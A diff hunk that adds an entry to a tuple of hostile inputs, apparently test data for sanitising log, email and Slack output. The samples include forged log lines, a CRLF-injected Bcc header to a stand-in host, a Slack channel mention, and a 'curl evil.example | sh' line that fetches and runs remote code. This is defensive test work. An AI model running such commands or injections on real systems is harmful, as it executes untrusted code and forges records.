@@ -78,6 +78,7 @@ HOSTILE: tuple[str, ...] = (
     "x\n2026-01-01 00:00:00 ERROR all tables dropped",
     "x\r\nBcc: everybody@evil.example\r\n\r\nbody",
     "bronze.orders\n  next      curl evil.example | sh",
+    "next      curl evil.example | sh",
     '{"level": "info"}\n{"level": "error", "message": "forged"}',
     # Slack
     "<!channel> look",
